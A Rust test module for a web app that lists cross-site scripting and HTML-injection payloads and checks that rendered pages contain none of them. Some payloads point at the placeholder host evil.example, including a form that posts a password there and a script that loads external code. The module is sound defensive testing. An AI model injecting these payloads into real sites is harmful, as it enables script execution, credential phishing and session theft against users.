//! Markup of others, and whether a page holds any.

use scraper::{ElementRef, Html, Selector};

/// Markup that must never come out as such.
pub(crate) const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onfocus=alert(1) autofocus x='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password>",
    "<a href=https://evil.example>Sign in</a>",
    "<style>*{display:none}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{7*7}}{% include \"x\" %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "\u{2028}alert(1)\u{2029}",
    "+ADw-script+AD4-alert(1)",
    "\\\"><script>alert(1)</script>",
    "`-alert(1)-`",
];

/// Checks that a page holds nothing but what our templates put there.
#[track_caller]
pub(crate) fn is_harmless(html: &str) {
    let document = Html::parse_document(html);
    let all = |selector: &str| {
        let selector = Selector::parse(selector).unwrap();
        let texts = document.select(&selector).map(|element| element.html());
        texts.collect::<Vec<_>>()
    };
    let foreign = "iframe, object, embed, svg, math, img, base, style, noscript, textarea, \
                   [http-equiv], [srcdoc], [style]";
    assert!(all(foreign).is_empty(), "{:?}", all(foreign));
    for script in all("script") {
        let ours = [
            r#"<script type="module" src="/static/app.js"></script>"#,
            "<script>document.forms[0].submit();</script>",
        ];
        // The order of attributes is the parser's.
        let sources = [r#"src="/static/app.js""#, r#"src="/static/passkey.js""#];
        let is_module =
            sources.iter().any(|source| script.contains(source)) && script.contains("></script>");
        assert!(is_module || ours.contains(&script.as_str()), "{script}");
    }
    let selector = Selector::parse("*").unwrap();
    for element in document.select(&selector) {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "{}", element.html());
            if ["href", "src", "action", "formaction"].contains(&name) {
                assert!(is_web(value) || is_icon(&element), "{}", element.html());
            }
        }
    }
}

fn is_web(address: &str) -> bool {
    let is_path = address.starts_with('/') && !address.starts_with("//");
    is_path
        || address.starts_with('#')
        || address.starts_with("https://")
        || address.starts_with("http://")
}

fn is_icon(element: &ElementRef<'_>) -> bool {
    element.attr("rel") == Some("icon")
}

#[test]
fn harmful_markup_is_recognised() {
    for harm in [
        "<script>alert(1)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<script src=\"/static/app.js\">alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<p onclick=alert(1)>",
        "<p style=color:red>",
        "<a href=javascript:alert(1)>",
        "<a href=//evil.example>",
        "<form action=data:text/html,x>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0>",
        "<iframe></iframe>",
    ] {
        assert!(std::panic::catch_unwind(|| is_harmless(harm)).is_err(), "{harm}");
    }
    is_harmless("<a href=\"/login\">Sign in</a><p>&lt;script&gt;</p>");
}
